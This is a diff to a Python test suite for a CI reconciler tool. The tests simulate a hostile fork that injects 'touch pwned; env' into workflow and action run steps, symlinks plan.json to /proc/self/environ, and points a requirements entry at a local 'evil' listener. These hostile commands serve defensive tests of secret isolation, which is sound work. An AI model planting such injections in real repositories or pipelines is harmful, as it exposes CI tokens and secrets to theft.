@@ -21,6 +21,8 @@ from support.command import ListeningPort, assert_harmless
 from support.workflow_runner import GITHUB_TOKEN, Job, git
 from support.workflow_scenario import ADA, GRACE, LINUS, WorkflowScenario, ci
 
+from reconciler.commands.init import ACTION
+
 EVIL = "127.0.0.2"
 
 
@@ -247,6 +249,8 @@ def plant(scenario: WorkflowScenario, listener: ListeningPort) -> None:
         write(scenario.origin / "requirements" / name, f"evil @ {listener.url}/evil-1.0-py3-none-any.whl\n")
     for workflow in (scenario.origin / ".github/workflows").glob("*.yml"):
         workflow.write_text(workflow.read_text().replace("run: .venv", "run: touch pwned; env; .venv"))
+    action = scenario.origin / ACTION
+    action.write_text(action.read_text().replace("run: exec", "run: touch pwned; env; exec"))
     write(scenario.origin / "plans" / "receipt.jsonl", "pwned")
     (scenario.origin / "plan.json").symlink_to("/proc/self/environ")
     (scenario.origin / ".venv").symlink_to("desired-state")
@@ -392,6 +396,8 @@ def test_a_fork_runs_its_own_workflow_without_anything_to_steal(
     def edit() -> None:
         workflow = scenario.origin / ".github/workflows/ci.yml"
         workflow.write_text(workflow.read_text().replace("run: .venv", "run: env | sort; .venv"))
+        action = scenario.origin / ACTION
+        action.write_text(action.read_text().replace("run: exec", "run: env | sort; exec"))
         scenario.add(GRACE)
 
     job = ci(scenario, scenario.branch(edit))
